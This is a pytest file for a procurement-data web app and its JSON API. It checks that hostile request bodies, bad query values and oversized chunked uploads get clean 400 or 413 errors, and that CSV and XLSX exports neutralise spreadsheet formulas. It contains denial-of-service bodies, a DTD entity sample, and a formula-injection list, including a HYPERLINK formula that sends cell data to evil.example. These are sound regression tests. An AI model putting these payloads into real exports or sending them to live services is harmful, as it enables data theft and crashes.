"""Issue 16, web app and JSON API: hostile bodies and query strings get the right status and the one error shape,
never a 500 or a dead worker; the OpenAPI document and the code agree; exports never carry a live formula.

Bodies that crashed or blew up a worker are posted from a subprocess under a 1 GB address-space limit (a
regression kills that subprocess, not the test run).
"""

from __future__ import annotations

import csv
import io
import json
import sys

import jsonschema_rs
import pytest
import schemathesis
from click.testing import CliRunner
from hostile import GB, decp_with_raw_value, limited, sample, with_amount, write
from hypothesis import HealthCheck, assume, given, settings
from openpyxl import load_workbook
from schemathesis import GenerationMode
from schemathesis.checks import negative_data_rejection, not_a_server_error

from reciprocity.cli import main
from reciprocity.model import Organisation
from webapp import create_app
from webapp.openapi import openapi_document

pytest_plugins = ["web_fixtures"]  # app, client, db_path; its helpers are imported where used, after it loads


def _assert_error(response, status: int, code: str) -> dict:
    """The one error shape, with this status and code, and no trace."""
    body = response.get_json()
    assert response.status_code == status and response.mimetype == "application/json", response.data[:300]
    assert set(body) == {"error", "detail"} and body["error"] == code and "Traceback" not in body["detail"]
    return body

POST_IN_A_SUBPROCESS = """
import json, sys
from webapp import create_app
app = create_app({"TESTING": True, "DATABASE": sys.argv[1], "SECRET_KEY": "t"})
body = open(sys.argv[2], "rb").read()
response = app.test_client().post("/api/v1/check", data=body, content_type="application/json")
print(json.dumps({"status": response.status_code, "body": response.get_json()}))
"""

# items 1 and 2: one 6 KB body killed a web worker (signal 11); a deep one grew it to 2.7 GB
HOSTILE_BODIES = {
    "a 5,000-digit number": (b"[" + b"9" * 5000 + b"]", "parse-error", "a number of more than 1,000 digits"),
    "200 KB of [": (b"[" * 200_000, "parse-error", "nested more than 64 levels deep"),
    "deep inside a DECP record": (decp_with_raw_value("objet", b"[" * 100_000 + b"]" * 100_000), "parse-error",
                                  "nested more than 64 levels deep"),
}


@pytest.mark.parametrize("body, code, words", HOSTILE_BODIES.values(), ids=HOSTILE_BODIES.keys())
def test_bodies_that_killed_a_worker_are_400(db_path, tmp_path, body: bytes, code: str, words: str):
    path = write(tmp_path / "body.json", body)
    run = limited([sys.executable, "-c", POST_IN_A_SUBPROCESS, str(db_path), str(path)], memory=GB, timeout=120)
    assert run.returncode == 0, run.stderr[-2000:]
    answer = json.loads(run.stdout.splitlines()[-1])
    assert answer["status"] == 400 and answer["body"]["error"] == code and words in answer["body"]["detail"]


def test_faults_outside_the_hierarchy_are_400(client):
    """Item 7 (invalid UTF-8 inside DECP JSON), item 13 (a DTD after a long comment), item 16 (UTF-16 JSON)."""
    utf8 = decp_with_raw_value("objet", b'"A\xc0\xaf"')
    late_dtd = (b'<?xml version="1.0"?><!--' + b"x" * 70_000 + b'--><!DOCTYPE a [<!ENTITY l "lol">]><a>&l;</a>')
    utf16 = sample("decp-2019-grenoble.json").decode("utf-8").encode("utf-16")
    for body, content_type, code in ((utf8, "application/json", "parse-error"),
                                     (late_dtd, "application/xml", "unsafe-xml"),
                                     (utf16, "application/octet-stream", "unknown-format")):
        _assert_error(client.post("/api/v1/check", data=body, content_type=content_type), 400, code)


# item 5: an amount of 10^27 and more was a 500 from the API and the form
@pytest.mark.parametrize("amount", ["1000000000000000000000000000", "1E+999999999", "-5000"])
def test_absurd_amounts_are_answered_with_a_warning(client, amount: str):
    body = with_amount("eforms-cn-lots-lyon.xml", amount)
    response = client.post("/api/v1/check", data=body, content_type="application/xml")
    assert response.status_code == 200
    warnings = " ".join(response.get_json()["notice"]["parse_warnings"])
    assert ("negative amount" if amount.startswith("-") else "beyond any real amount") in warnings
    page = client.post("/check", data={"up-text": body.decode("utf-8")})
    assert page.status_code == 200 and 'id="check-error"' not in page.get_data(as_text=True)


def test_an_absurd_amount_in_the_draft_form_is_named(client):
    response = client.post("/check/draft", data={"d-estimated_value": "1E+999999999", "d-currency": "EUR"})
    assert response.status_code == 400 and "doit être compris entre 0 et 10^18" in response.get_data(as_text=True)


# items 6 and 15: every query parameter is checked against its documented range
BAD_QUERIES = ["year=99999999999999999999", "year=2101", "year=1899", "year=²", "page=²", "per_page=²",
               "page=0", "per_page=501", "page=1.5", "min_priority=nan", "min_priority=1e999", "min_priority=101",
               "buyer_country=FRA", "buyer_country=%00", "cpv=3a", "kind=nothing", "origin_class=MARS",
               "severity=fatal", f"buyer={'x' * 201}"]
API_ROUTES = ["/api/v1/tenders", "/api/v1/stats"]
PAGE_ROUTES = ["/", "/tenders", "/tenders.csv", "/tenders.xlsx"]


@pytest.mark.parametrize("query", BAD_QUERIES)
def test_bad_query_values_are_400_with_the_error_shape(client, query: str):
    name = query.split("=")[0]
    paged = name in ("page", "per_page")  # only the tender list has pages
    for route in ["/api/v1/tenders"] if paged else API_ROUTES:
        body = _assert_error(client.get(f"{route}?{query}"), 400, "config")
        assert name in body["detail"]
    for route in ["/tenders"] if paged else PAGE_ROUTES:
        response = client.get(f"{route}?{query}")
        assert response.status_code == 400 and "Traceback" not in response.get_data(as_text=True), route


def test_good_and_empty_query_values_are_accepted(client):
    for query in ("year=2024", "year=", "page=", "min_priority=12.5", "min_priority=1e1", "buyer_country=fr",
                  "cpv=909", "page=1&per_page=500"):
        assert client.get(f"/api/v1/tenders?{query}").status_code == 200, query
    assert client.get("/api/v1/tenders?year=2024").get_json()["total"] == 2


@pytest.fixture(scope="module")
def api_schema(tmp_path_factory: pytest.TempPathFactory):
    from web_fixtures import sample_notices, seed

    path = tmp_path_factory.mktemp("negative") / "api.db"
    seed(path, sample_notices())
    app = create_app({"TESTING": True, "DATABASE": str(path), "SECRET_KEY": "test"})
    return schemathesis.openapi.from_wsgi("/api/v1/openapi.json", app)


@pytest.mark.parametrize("method, path", [("GET", "/tenders"), ("GET", "/stats"), ("POST", "/check"),
                                          ("POST", "/clauses")])
def test_what_the_document_forbids_the_api_refuses(api_schema, method: str, path: str):
    """schemathesis draws requests that break the document (out-of-range values, empty bodies…): each is refused."""
    operation = api_schema[path][method]

    @given(case=operation.as_strategy(generation_mode=GenerationMode.NEGATIVE))
    @settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck), database=None)
    def run(case):
        # an empty query value means "not given" (allowEmptyValue in the document), which schemathesis ignores
        assume(not any(value in ("", None) for value in (case.query or {}).values()))
        case.call_and_validate(checks=[negative_data_rejection, not_a_server_error])

    run()


def test_an_empty_body_is_invalid_in_the_document_too(client):
    body = openapi_document()["paths"]["/check"]["post"]["requestBody"]["content"]
    for content_type in ("text/plain", "application/xml", "application/octet-stream", "application/x-ndjson"):
        validator = jsonschema_rs.validator_for(body[content_type]["schema"])
        assert not validator.is_valid("") and not validator.is_valid(" \n")
        _assert_error(client.post("/api/v1/check", data=b" \n", content_type=content_type), 400, "empty-body")


# item 11: a chunked body over the limit was cut to the limit and parsed
@pytest.mark.parametrize("route", ["/api/v1/check", "/check"])
def test_a_chunked_body_over_the_limit_is_413(db_path, route: str):
    app = create_app({"TESTING": True, "DATABASE": str(db_path), "SECRET_KEY": "t", "WTF_CSRF_ENABLED": False,
                      "MAX_CONTENT_LENGTH": 1000})
    body = sample("decp-2019-grenoble.json")
    assert len(body) > 1000
    environ = {"wsgi.input": io.BytesIO(body), "wsgi.input_terminated": True}
    response = app.test_client().post(route, environ_overrides=environ, content_type="application/json",
                                      headers={"Transfer-Encoding": "chunked"})
    assert response.status_code == 413
    small = {"wsgi.input": io.BytesIO(body[:0] + b"[]"), "wsgi.input_terminated": True}
    response = app.test_client().post("/api/v1/check", environ_overrides=small, content_type="application/json",
                                      headers={"Transfer-Encoding": "chunked"})
    assert response.status_code == 400 and "no notice or contract" in response.get_json()["detail"]


# item 12: a title "=HYPERLINK(…)" became a live formula in the CSV (and XLSX) exports
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+SUM(1+1)", "-2+3", "@SUM(1)", "\tTAB", "\r=CR"]


@pytest.fixture
def formula_db(tmp_path):
    from web_fixtures import _result, seed

    path = tmp_path / "formulas.db"
    notices = []
    for number, text in enumerate(FORMULAS):
        notice = _result(200000 + number, 2024, Organisation(name=text, country="FR"), "-5000")
        notice.procedure.title, notice.buyer.name = text, text
        notices.append(notice)
    seed(path, notices)
    return path


def _assert_inert(rows: list[list[str]], column: str) -> None:
    """Every formula is there, quoted (a CR inside written as a line feed: the row stays one row)."""
    index = rows[0].index(column)
    values = sorted(row[index] for row in rows[1:])
    assert values == sorted("'" + text.replace("\r", "\n") for text in FORMULAS)


def test_csv_exports_neutralise_formulas(formula_db, tmp_path):
    app = create_app({"TESTING": True, "DATABASE": str(formula_db), "SECRET_KEY": "t"})
    text = app.test_client().get("/tenders.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text)))
    _assert_inert(rows, "title")
    _assert_inert(rows, "buyer_name")
    assert {row[rows[0].index("estimated_value")] for row in rows[1:]} == {"-5000"}  # a number is no formula
    result = CliRunner().invoke(main, ["export", "--db", str(formula_db), "--format", "csv", "--table", "winners"])
    assert result.exit_code == 0
    rows = list(csv.reader(io.StringIO(result.output)))
    _assert_inert(rows, "name")


def test_xlsx_exports_keep_formulas_as_text(formula_db, tmp_path):
    app = create_app({"TESTING": True, "DATABASE": str(formula_db), "SECRET_KEY": "t"})
    data = app.test_client().get("/tenders.xlsx").get_data()
    out = tmp_path / "winners.xlsx"
    CliRunner().invoke(main, ["export", "--db", str(formula_db), "--format", "xlsx", "--table", "winners",
                              "--output", str(out)])
    for book in (load_workbook(io.BytesIO(data)), load_workbook(out)):
        cells = [cell for row in book.active.iter_rows() for cell in row if str(cell.value).startswith("=HYPER")]
        assert cells and all(cell.data_type == "s" for cell in cells)
